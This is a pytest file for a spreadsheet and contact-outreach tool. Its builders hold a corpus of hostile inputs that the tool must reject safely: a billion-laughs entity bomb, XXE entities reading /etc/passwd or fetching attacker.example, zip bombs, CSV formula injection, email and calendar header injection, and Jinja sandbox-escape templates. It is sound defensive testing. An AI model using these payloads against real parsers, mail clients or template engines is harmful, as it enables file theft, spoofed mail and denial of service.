"""A corpus of bad input for every command, each with the one line (or the result) it must give (issue 7).

The table is ``tests/corpus/expectations.json``: one case per entry —

* ``id``, the ``builder`` below that makes the input in an empty folder (the
  current folder while the case runs, so paths in messages are short and stable),
  and the command line ``args``;
* ``exit``, the exit code, and ``stderr`` (the exact text, ``{cwd}`` standing for
  the folder) or ``stderr_re`` (a regex for the whole of it, where a part varies);
* optionally ``stdout_has`` (lines the output must contain), ``check`` (a function
  below that inspects what was written), ``max_seconds``, and ``subprocess`` (run
  ``python -m workbook_tool`` in a child process: a native crash, such as an abort
  in a parser, then shows as its exit code instead of ending the test run).

Input files that are plain text live in ``tests/corpus/data/``. No case may show a
traceback, and a case that fails must leave the chart byte for byte as it was.
"""

from __future__ import annotations

import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from conftest import GOOD_PROFILE, contact, rewrite_zip, run, write_workbook
from sync_fixtures import simple_chart, table_chart, table_rows, xlsxwriter_chart

CORPUS = Path(__file__).resolve().parent / "corpus"
DATA = CORPUS / "data"
CASES = json.loads((CORPUS / "expectations.json").read_text(encoding="utf-8"))

BILLION_LAUGHS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
              for i in range(1, 10))
    + ']>\n')
SST = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'


# --------------------------------------------------------------------------- builders


def chart(folder: Path, rows=None, *, name="chart.xlsx", **kwargs) -> Path:
    """A valid chart: two people, a complete Profile."""
    if rows is None:
        rows = [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email"),
                contact(name="Bob Roe", source="Own", phone="617-555-0142", channel="Call",
                        contacted_on=dt.date(2026, 11, 2), meeting_on=dt.date(2026, 11, 20))]
    return simple_chart(folder / name, rows, **kwargs)


def with_templates(folder: Path, subject: str | None, body: str | None, *, kind="Outreach") -> Path:
    return chart(folder, extra_sheets={"Templates": [["Name", "Subject", "Body"], [kind, subject, body]]})


def templates_dir(folder: Path, text: str, name="outreach.txt") -> Path:
    chart(folder)
    (folder / "tpl").mkdir()
    (folder / "tpl" / name).write_text(text, encoding="utf-8")
    return folder


def good_zip(folder: Path) -> Path:
    return chart(folder, name="good.xlsx")


def _in_zip(folder: Path, replace=None, add=None, drop=()) -> Path:
    good = good_zip(folder)
    path = rewrite_zip(good, folder / "chart.xlsx", replace=replace, add=add, drop=drop)
    good.unlink()
    return path


def _sheet_xml(folder: Path) -> str:
    with zipfile.ZipFile(good_zip(folder)) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode()


def _profile(folder: Path, **changes) -> Path:
    profile = {**GOOD_PROFILE, **changes}
    return chart(folder, profile={k: v for k, v in changes.items()}) if False else simple_chart(
        folder / "chart.xlsx", [contact(name="Ann Lee", email="ann@fabrikam.org", channel="Email")],
        profile=profile)


BUILDERS = {}


def builder(fn):
    BUILDERS[fn.__name__] = fn
    return fn


@builder
def nothing(folder):
    pass


@builder
def good(folder):
    chart(folder)


@builder
def folder_named_like_a_chart(folder):
    (folder / "chart.xlsx").mkdir()


@builder
def fifo_named_like_a_chart(folder):
    os.mkfifo(folder / "chart.xlsx")  # nobody ever writes into it: a read would wait forever


@builder
def empty_file(folder):
    (folder / "chart.xlsx").write_bytes(b"")


@builder
def dangling_symlink(folder):
    (folder / "chart.xlsx").symlink_to(folder / "moved-away.xlsx")


@builder
def xls_renamed(folder):
    (folder / "chart.xlsx").write_bytes(bytes.fromhex("d0cf11e0a1b11ae1") + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff"
                                        + bytes(4066))


@builder
def ods_renamed(folder):
    with zipfile.ZipFile(folder / "chart.xlsx", "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", "<office:document-content/>")


@builder
def csv_renamed(folder):
    (folder / "chart.xlsx").write_text("Name;Email\nAnn Lee;ann@fabrikam.org\nJosé Ruiz;jose@contoso.com\n",
                                       encoding="cp1252")


@builder
def utf16_text(folder):
    (folder / "chart.xlsx").write_text("Name\tEmail\nAnn Lee\tann@fabrikam.org\n", encoding="utf-16")


@builder
def binary_junk(folder):
    chart(folder, name="real.xlsx")
    (folder / "chart.xlsx").write_bytes(bytes(range(256)) * 16)


@builder
def truncated_zip(folder):
    data = good_zip(folder).read_bytes()
    (folder / "chart.xlsx").write_bytes(data[: len(data) * 2 // 3])


@builder
def zip_of_photos(folder):
    with zipfile.ZipFile(folder / "chart.xlsx", "w") as zf:
        zf.writestr("holiday.jpg", b"\xff\xd8\xff\xe0 not really a photo")


@builder
def word_document(folder):
    with zipfile.ZipFile(folder / "chart.xlsx", "w") as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        zf.writestr("word/document.xml", '<?xml version="1.0"?><document/>')


@builder
def malformed_sheet_xml(folder):
    _in_zip(folder, replace={"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row r='1'><c"})


@builder
def password_protected(folder):
    import msoffcrypto.format.ooxml

    good = good_zip(folder)
    with open(good, "rb") as src, open(folder / "chart.xlsx", "wb") as out:
        msoffcrypto.format.ooxml.OOXMLFile(src).encrypt("secret", out)
    good.unlink()


@builder
def no_contacts_sheet(folder):
    write_workbook(folder / "chart.xlsx", {"Budget": [["Item", "Cost"], ["Rent", 1200]]})


@builder
def no_name_column(folder):
    write_workbook(folder / "chart.xlsx", {"Contacts": [["Surname", "E-mail"], ["Lee", "ann@fabrikam.org"]]})


@builder
def billion_laughs(folder):
    _in_zip(folder, add={"xl/sharedStrings.xml": BILLION_LAUGHS + SST + "<si><t>&lol9;</t></si></sst>"})


@builder
def external_entity(folder):
    xxe = ('<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           + SST + "<si><t>&xxe;</t></si></sst>")
    _in_zip(folder, add={"xl/sharedStrings.xml": xxe})


@builder
def external_entity_in_a_sheet(folder):
    sheet = _sheet_xml(folder)
    body = sheet.split("?>", 1)[-1].replace("Ann Lee", "&xxe;")
    xxe = '<?xml version="1.0"?>\n<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>' + body
    _in_zip(folder, replace={"xl/worksheets/sheet1.xml": xxe})


@builder
def parameter_entity_in_rels(folder):
    rels = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> '
            '%remote;]><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
    _in_zip(folder, replace={"xl/_rels/workbook.xml.rels": rels})


@builder
def zip_bomb(folder):
    # 40 MB of one byte: a few dozen KB compressed, 1000 times bigger unpacked.
    _in_zip(folder, add={"xl/sharedStrings.xml": b" " * (40 * 1024 * 1024)})


@builder
def zip_bomb_as_import_file(folder):
    chart(folder)
    good = good_zip(folder)
    rewrite_zip(good, folder / "export.xlsx", add={"xl/sharedStrings.xml": b"A" * (40 * 1024 * 1024)})
    good.unlink()


@builder
def existing_file_for_init(folder):
    chart(folder)


@builder
def init_in_missing_folder(folder):
    pass


@builder
def recommended_formulas(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email",
                           recommended='=HYPERLINK("http://evil.example","click") <evil@x.org>; '
                                       "=cmd|' /C calc'!A0, +1-2, @SUM(A1)")])


@builder
def want_to_meet_formula(folder):
    chart(folder, want_to_meet=[["=1+1", "=HYPERLINK(\"http://x\")", "why", "=2+2"]])


@builder
def formula_names_csv(folder):
    chart(folder)
    shutil.copy(DATA / "formula_names.csv", folder / "export.csv")


@builder
def one_person_csv(folder):
    chart(folder)
    shutil.copy(DATA / "one_person.csv", folder / "export.csv")


@builder
def template_makes_formula_text(folder):
    with_templates(folder, '=HYPERLINK("http://evil.example","Re: {{ contact.name }}")',
                   "=1+1 {{ contact.name }}\n\nNot asking for a job; 15-20 minutes?")


@builder
def header_injection_in_name(folder):
    chart(folder, [contact(name="Ann Lee\r\nBcc: everyone@evil.example", source="Own", email="ann@fabrikam.org",
                           channel="Email")])


@builder
def header_injection_in_subject(folder):
    with_templates(folder, "Hello\r\nBcc: everyone@evil.example\r\nX-Evil: 1", "Hi {{ contact.name }}")


@builder
def header_injection_in_my_name(folder):
    simple_chart(folder / "chart.xlsx", [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org",
                                                 channel="Email")],
                 profile={"Your Name": "Jordan\nBcc: everyone@evil.example"})


@builder
def header_injection_in_email(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org\nBcc: everyone@evil.example",
                           channel="Email")])


# An RFC 2047 encoded word that decodes to CRLF "Bcc: …" (issue 11, item 1).
ENCODED_BCC = "=?utf-8?q?=0D=0ABcc:_everyone@evil.example?="


@builder
def encoded_word_in_name(folder):
    chart(folder, [contact(name="Sue Miller", source="Own", email="sue@fabrikam.org", channel="Email",
                           contacted_on=dt.date(2026, 11, 2)),
                   contact(name=f"Ann {ENCODED_BCC}", source="Referral", referred_by=f"Sue {ENCODED_BCC}",
                           email="ann@fabrikam.org", channel="Email")])


@builder
def encoded_word_in_my_name(folder):
    simple_chart(folder / "chart.xlsx", [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org",
                                                 channel="Email")],
                 profile={"Your Name": f"Jordan {ENCODED_BCC}"})


@builder
def encoded_word_in_subject(folder):
    with_templates(folder, f"Hello {ENCODED_BCC}" + " {{ contact.name }}", None)


@builder
def encoded_word_in_email(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="=?utf-8?q?=0D=0ABcc=3A_x=40evil=2Eexample?=@x.org",
                           channel="Email")])


@builder
def sandbox_mro(folder):
    with_templates(folder, None, "{{ ''.__class__.__mro__[1].__subclasses__() }}")


@builder
def sandbox_cycler_globals(folder):
    with_templates(folder, None, "{{ cycler.__init__.__globals__ }}")


@builder
def sandbox_format_attribute(folder):
    with_templates(folder, None, "{{ '{0.__class__.__init__.__globals__}'.format(contact) }}")


@builder
def sandbox_self_globals(folder):
    templates_dir(folder, "Subject: hi\n\n{{ self.__init__.__globals__['__builtins__'] }}")


@builder
def sandbox_include_file(folder):
    templates_dir(folder, "{% include '/etc/passwd' %}")


@builder
def sandbox_huge_range(folder):
    with_templates(folder, None, "{% for i in range(10**9) %}x{% endfor %}")


# Templates that hung or exhausted memory (issue 11, item 2).
@builder
def template_nested_ranges(folder):
    with_templates(folder, None, "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}")


@builder
def template_ljust(folder):
    with_templates(folder, None, "Dear {{ contact.name.ljust(10**9) }}")


@builder
def template_format_width(folder):
    with_templates(folder, "{{ '%0999999999d'|format(1) }}", None)


@builder
def template_doubling(folder):
    with_templates(folder, None, "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}"
                                 "{% endfor %}")


@builder
def cjk_names(folder):
    # 80 CJK characters: 240 bytes, and a file name may have 255 (issue 11, item 7).
    chart(folder, [contact(name="山" * 80, source="Own", email="a@fabrikam.org", channel="Email"),
                   contact(name="山" * 79 + "川", source="Own", email="b@fabrikam.org", channel="Email")])


@builder
def template_syntax_error(folder):
    with_templates(folder, None, "Dear {{ contact.name }\n")


@builder
def year_9999(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email",
                           contacted_on=dt.date(9999, 12, 31))])


@builder
def serial_a_billion(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email",
                           meeting_on=10**9)])


@builder
def serial_past_9999(folder):
    # Day 2,960,000 is in the year 10,104: a date-formatted cell that no date can hold.
    path = chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email",
                                  contacted_on=2_960_000, meeting_on=2_960_000)])
    shutil.copy(DATA / "one_person.csv", folder / "export.csv")
    from openpyxl import load_workbook

    wb = load_workbook(path)
    wb["Contacts"]["K2"].number_format = "yyyy-mm-dd"
    wb.save(path)


@builder
def february_30(folder):
    chart(folder, [contact(name="Ann Lee", source="Own", email="ann@fabrikam.org", channel="Email",
                           contacted_on="2026-02-30")])


@builder
def long_cells(folder):
    chart(folder, [contact(name="Ann " + "Lee" * 3333, source="Own", email="ann@fabrikam.org", channel="Email",
                           notes="n" * 10_000, helpful="h" * 10_000, organization="O" * 10_000),
                   contact(name="Bob Roe", source="Own", phone="617-555-0142", channel="Call",
                           contacted_on=dt.date(2026, 11, 2), meeting_on=dt.datetime(2026, 11, 20, 14, 30),
                           recommended="; ".join(f"Person {i}" for i in range(1300)))])


@builder
def calendar_injection(folder):
    chart(folder, [contact(name="Ann Lee\r\nATTENDEE:mailto:everyone@evil.example\r\nEND:VEVENT", source="Own",
                           email="ann@fabrikam.org", channel="Email", contacted_on=dt.date(2026, 11, 2),
                           meeting_on=dt.datetime(2026, 11, 27, 10, 0),
                           organization="Contoso;\nBEGIN:VALARM")])


@builder
def follow_up_days_seven(folder):
    _profile(folder, **{"Follow-Up Days": "seven"})


@builder
def region_usa(folder):
    _profile(folder, Region="USA")


@builder
def my_email_a_number(folder):
    _profile(folder, **{"Your Email": 12345})


@builder
def empty_export(folder):
    chart(folder)
    (folder / "export.csv").write_bytes(b"")


@builder
def malformed_xlsx_export(folder):
    chart(folder)
    rewrite_zip(chart(folder, name="good.xlsx"), folder / "export.xlsx",
                replace={"xl/worksheets/sheet1.xml": "<worksheet><sheetData><row r='1'><c"})


@builder
def binary_export(folder):
    chart(folder)
    (folder / "export.csv").write_bytes(bytes(range(256)) * 4)


@builder
def export_without_names(folder):
    chart(folder)
    shutil.copy(DATA / "no_name_column.csv", folder / "export.csv")


@builder
def vcf_without_cards(folder):
    chart(folder)
    shutil.copy(DATA / "not_cards.vcf", folder / "export.vcf")


@builder
def export_is_a_folder(folder):
    chart(folder)
    (folder / "export.csv").mkdir()


@builder
def out_is_a_file(folder):
    chart(folder)
    (folder / "drafts").write_text("not a folder")


@builder
def ics_is_a_folder(folder):
    chart(folder)
    (folder / "cal.ics").mkdir()


# Where sync and import may put cells (issue 11): Excel's last column, the person's merges, tables and formulas.


@builder
def note_in_column_xfd(folder):
    from openpyxl import load_workbook

    path = chart(folder)
    wb = load_workbook(path)
    wb["Contacts"]["XFD1"] = "the end"
    wb.save(path)


@builder
def next_step_cells_merged(folder):
    # Synced once; then the person merged two Next Step cells (V2:V3), and Ann Lee was emailed.
    from openpyxl import load_workbook

    from workbook_tool.sync import sync_chart

    path = chart(folder)
    sync_chart(path, dt.date(2026, 11, 25))
    wb = load_workbook(path)
    ws = wb["Contacts"]
    assert ws["V1"].value == "Next Step"
    ws.merge_cells("V2:V3")
    ws["K2"] = dt.date(2026, 11, 20)
    wb.save(path)


@builder
def table_merge_under(folder):
    table_chart(folder / "chart.xlsx", below={"A5": "Archived contacts below"}, merge="A5:Q6")


@builder
def table_array_formula_under(folder):
    # xlsxwriter: an array formula right under the table, its result cached (read as a contact before).
    xlsxwriter_chart(folder / "chart.xlsx", table_rows(), table="People",
                     extra=lambda wb, ws: ws.write_array_formula("A5:B5", "{=UPPER(A2:B2)}", None, "PERSON 1"))


@builder
def table_total_row_import(folder):
    table_chart(folder / "chart.xlsx", totals=True)
    shutil.copy(DATA / "one_person.csv", folder / "export.csv")


@builder
def table_note_under_import(folder):
    table_chart(folder / "chart.xlsx", below={"C5": "the rest are in Archive"})
    shutil.copy(DATA / "one_person.csv", folder / "export.csv")


# Sheet XML the writer cannot edit, refused in one line naming the sheet (issue 12).


@builder
def rows_out_of_order(folder):
    # Row 3 stored before row 2: Excel "repairs" such a sheet, and where a new row goes is anyone's guess.
    path = chart(folder)
    xml = _sheet_xml(folder)
    rows = re.findall(r'<row r="\d+".*?</row>', xml, re.S)
    xml = xml.replace(rows[1] + rows[2], rows[2] + rows[1])
    rewrite_zip(path, folder / "swapped.xlsx", replace={"xl/worksheets/sheet1.xml": xml}).replace(path)
    (folder / "good.xlsx").unlink()


def _cut_part(folder: Path, part: str, drop=False) -> Path:
    """The example chart (notes on every header) with one part cut in half, or left out."""
    from sync_fixtures import sample_chart

    good = sample_chart(folder / "good.xlsx")
    with zipfile.ZipFile(good) as zf:
        data = zf.read(part)
    path = rewrite_zip(good, folder / "chart.xlsx", replace={} if drop else {part: data[: len(data) // 2]},
                       drop=[part] if drop else ())
    good.unlink()
    return path


@builder
def damaged_content_types(folder):
    _cut_part(folder, "[Content_Types].xml")


@builder
def damaged_workbook_rels(folder):
    _cut_part(folder, "xl/_rels/workbook.xml.rels")


@builder
def damaged_sheet_rels(folder):
    _cut_part(folder, "xl/worksheets/_rels/sheet1.xml.rels")


@builder
def damaged_notes(folder):
    _cut_part(folder, "xl/comments/comment1.xml")


@builder
def damaged_notes_drawing(folder):
    _cut_part(folder, "xl/drawings/commentsDrawing1.vml")


@builder
def missing_notes(folder):
    _cut_part(folder, "xl/comments/comment1.xml", drop=True)


@builder
def notes_drawing_with_html_breaks(folder):
    # Excel's VML is not always XML: a note's text box may hold a bare <br>.
    from sync_fixtures import sample_chart

    good = sample_chart(folder / "good.xlsx")
    with zipfile.ZipFile(good) as zf:
        vml = zf.read("xl/drawings/commentsDrawing1.vml").decode()
    rewrite_zip(good, folder / "chart.xlsx", replace={
        "xl/drawings/commentsDrawing1.vml": vml.replace("</xml>", "<div><br><br></div></xml>")})
    good.unlink()


@builder
def chart_sheet_before_contacts(folder):
    # "Chart" is also a name for the Contacts sheet; an old list by that name comes first.
    chart(folder, extra_sheets={"Chart": [["Name", "Email"], ["Old Friend", "not an address"]]})
    from openpyxl import load_workbook

    wb = load_workbook(folder / "chart.xlsx")
    wb.move_sheet("Chart", -wb.sheetnames.index("Chart"))
    wb.save(folder / "chart.xlsx")


# The far corner of a sheet: Excel's last column (XFD) and row (1,048,576). A reader
# that makes a grid from A1 to the last cell asks for 17 billion cells there.
FAR_CORNER = "XFD1048576"


def _far_cells(path: Path, sheets) -> Path:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    for name in sheets:
        wb[name][FAR_CORNER] = "far away"
    wb.save(path)
    return path


def _far_chart(folder: Path) -> Path:
    shutil.copy(DATA / "one_person.csv", folder / "export.csv")
    return chart(folder, want_to_meet=[["Zoe Park", "Contoso", "data team", None]],
                 extra_sheets={"Notes": [["Call list for December"]]})


@builder
def far_cells_everywhere(folder):
    _far_cells(_far_chart(folder), ["Contacts", "Profile", "Want to Meet", "Notes"])


@builder
def far_cells_beside_the_tables(folder):
    _far_cells(_far_chart(folder), ["Profile", "Notes"])


@builder
def far_cell_in_an_export(folder):
    chart(folder)
    _far_cells(write_workbook(folder / "export.xlsx", {"Contacts": [["Name", "Email"],
                                                                    ["Cleo Diaz", "cleo@contoso.com"]]}),
               ["Contacts"])


def _cell_after_the_table(folder: Path, cells: str, *, sheet="xl/worksheets/sheet2.xml") -> Path:
    """The chart with a row of raw cells added to a sheet's XML, its dimension left as it was."""
    good = _far_chart(folder)
    with zipfile.ZipFile(good) as zf:
        xml = zf.read(sheet).decode()
    row = f'<row r="1048576">{cells}</row>'
    path = rewrite_zip(good, folder / "new.xlsx", replace={sheet: xml.replace("</sheetData>", row + "</sheetData>")})
    path.replace(good)
    return good


@builder
def far_cell_the_dimension_hides(folder):
    # The <dimension> still says A1:B14: only the cell's own reference tells where it is.
    _cell_after_the_table(folder, f'<c r="{FAR_CORNER}" t="inlineStr"><is><t>far away</t></is></c>')


@builder
def far_cell_in_lower_case(folder):
    _cell_after_the_table(folder, '<c r="xfd1048576"><v>1</v></c>')


@builder
def far_cell_in_a_second_reference(folder):
    # An XML reader keeps the last of two attributes by one name.
    _cell_after_the_table(folder, f'<c r="A1048576" r="{FAR_CORNER}"><v>1</v></c>')


@builder
def far_cell_with_a_prefix(folder):
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    _cell_after_the_table(folder, f'<x:c xmlns:x="{main}" r="{FAR_CORNER}"><x:v>1</x:v></x:c>')


@builder
def far_cells_without_references(folder):
    # Cells without r="…" stand one after another: the last of these is in column XFD.
    _cell_after_the_table(folder, "<c><v>1</v></c>" * 16384)


# --------------------------------------------------------------------------- checks of what was written


def _cells(path: Path, sheet="Contacts"):
    from openpyxl import load_workbook

    return [c for row in load_workbook(path)[sheet].iter_rows() for c in row if c.value is not None]


def no_formula_cells(folder: Path) -> None:
    """Every cell is text or a value: nothing from data became a formula."""
    from openpyxl import load_workbook

    wb = load_workbook(folder / "chart.xlsx")
    formulas = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []


def recommended_added_as_text(folder: Path) -> None:
    no_formula_cells(folder)
    names = [c.value for c in _cells(folder / "chart.xlsx") if c.column == 1]
    # The comma splits off an Organization: the name is what comes before it.
    assert '=HYPERLINK("http://evil.example"' in names and "=cmd|' /C calc'!A0" in names


def imported_as_text(folder: Path) -> None:
    no_formula_cells(folder)
    names = [c.value for c in _cells(folder / "chart.xlsx") if c.column == 1]
    assert '=HYPERLINK("http://evil.example/?"&A1;"click")' in names and "@SUM(A1)" in names


def draft_cell_is_a_link(folder: Path) -> None:
    no_formula_cells(folder)
    from openpyxl import load_workbook

    ws = load_workbook(folder / "chart.xlsx")["Contacts"]
    header = {c.value: c.column for c in ws[1]}
    cell = ws.cell(2, header["Draft"])
    # The template's formula-like subject is only in the link, quoted; the cell shows the label.
    assert cell.value == "Email Ann", cell.value
    assert cell.hyperlink.target.startswith("mailto:ann@fabrikam.org?subject=%3DHYPERLINK"), cell.hyperlink.target


def no_injected_header(folder: Path) -> None:
    import email
    from email import policy

    emls = list((folder / "drafts").glob("*.eml")) + list((folder / "drafts").glob("*.txt"))
    assert emls
    for eml in emls:
        if eml.suffix == ".txt":
            assert not re.search(r"^Bcc:", eml.read_text(encoding="utf-8"), re.M)
            continue
        msg = email.message_from_bytes(eml.read_bytes(), policy=policy.default)
        assert msg["Bcc"] is None and msg["X-Evil"] is None, msg.keys()
        assert set(msg.keys()) <= {"To", "From", "Subject", "X-Unsent", "Content-Type", "Content-Transfer-Encoding",
                                   "MIME-Version"}, msg.keys()


def draft_links_are_safe(folder: Path) -> None:
    """Each mailto: link of the Draft column has only a subject and a body, and its subject stays one header
    even for a mail program that decodes encoded words in it."""
    import email
    from email import policy
    from urllib.parse import parse_qs, urlsplit

    from openpyxl import load_workbook

    ws = load_workbook(folder / "chart.xlsx")["Contacts"]
    column = [c.value for c in ws[1]].index("Draft")
    links = [row[column].hyperlink.target for row in ws.iter_rows(min_row=2) if row[column].hyperlink]
    assert links
    for link in links:
        query = parse_qs(urlsplit(link).query)
        assert set(query) == {"subject", "body"}, link
        msg = email.message_from_string(f"Subject: {query['subject'][0]}\r\n\r\n", policy=policy.default)
        assert msg.keys() == ["Subject"] and "\n" not in str(msg["Subject"]), msg.keys()


def long_cells_kept(folder: Path) -> None:
    cells = {c.coordinate: c.value for c in _cells(folder / "chart.xlsx")}
    assert cells["A2"] == "Ann " + "Lee" * 3333 and len(cells["K2"] if "K2" in cells else "") in (0, 10_000)
    assert sum(1 for k in cells if k.startswith("A")) > 1300  # every recommended person added


def calendar_not_injected(folder: Path) -> None:
    from icalendar import Calendar

    cal = Calendar.from_ical((folder / "cal.ics").read_bytes())
    events = [c for c in cal.walk() if c.name == "VEVENT"]
    assert events and all("ATTENDEE" not in e for e in events)
    assert len([c for c in cal.walk() if c.name == "VALARM"]) <= len(events)
    assert any("ATTENDEE:mailto:everyone@evil.example" in str(e.get("SUMMARY")) for e in events)


def cjk_drafts_written(folder: Path) -> None:
    names = sorted(p.name for p in (folder / "drafts").iterdir())
    stem = "2026-11-25 outreach - " + "山" * 71
    assert names == [stem + " (row 3).eml", stem + ".eml"], names
    assert all(len(n.encode()) <= 255 for n in names)


def far_cells_kept(folder: Path) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(folder / "chart.xlsx")
    assert [wb[name][FAR_CORNER].value for name in ("Profile", "Notes")] == ["far away", "far away"]
    assert wb["Notes"]["A1"].value == "Call list for December" and wb["Contacts"]["A2"].value == "Ann Lee"


def long_draft_written(folder: Path) -> None:
    (draft,) = list((folder / "drafts").iterdir())
    assert len(draft.name.encode()) < 255 and draft.name.startswith("2026-11-25 outreach - Ann LeeLee")


CHECKS = {f.__name__: f for f in (no_formula_cells, recommended_added_as_text, imported_as_text,
                                  draft_cell_is_a_link, no_injected_header, draft_links_are_safe, long_cells_kept,
                                  calendar_not_injected,
                                  long_draft_written, cjk_drafts_written, far_cells_kept)}


# --------------------------------------------------------------------------- the test


def test_the_corpus_is_big_and_covers_every_command():
    assert len(CASES) >= 40
    assert len({c["id"] for c in CASES}) == len(CASES)
    assert {c["args"][0] for c in CASES} >= {"init", "validate", "sync", "draft", "import", "agenda", "calendar"}
    assert {c["builder"] for c in CASES} <= set(BUILDERS)


@pytest.mark.parametrize("case", CASES, ids=[c["id"] for c in CASES])
def test_bad_input(case, tmp_path, monkeypatch):
    folder = tmp_path / "work"
    folder.mkdir()
    BUILDERS[case["builder"]](folder)
    monkeypatch.chdir(folder)
    before = {p: p.read_bytes() for p in folder.glob("*.xlsx") if p.is_file()}

    start = time.monotonic()
    if case.get("subprocess"):
        result = subprocess.run([sys.executable, "-m", "workbook_tool", *case["args"]], cwd=folder,
                                stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300)
        result.exit_code = result.returncode
    else:
        result = run(*case["args"])
    elapsed = time.monotonic() - start

    output = result.stdout + result.stderr
    assert "Traceback" not in output and "Exception" not in output
    assert result.exit_code == case["exit"], output
    if "stderr_re" in case:
        pattern = case["stderr_re"].replace("{cwd}", re.escape(str(folder)))
        assert re.fullmatch(pattern, result.stderr, re.S), result.stderr
    else:
        assert result.stderr == case.get("stderr", "").replace("{cwd}", str(folder))
    for line in case.get("stdout_has", []):
        assert line in result.stdout.splitlines(), result.stdout
    if "max_seconds" in case:
        assert elapsed < case["max_seconds"], f"took {elapsed:.1f} s"
    if result.exit_code != 0:
        for path, data in before.items():
            assert path.read_bytes() == data, f"{path.name} changed"
        assert not list(folder.glob(".*.chart-tmp.xlsx"))
    if "check" in case:
        CHECKS[case["check"]](folder)
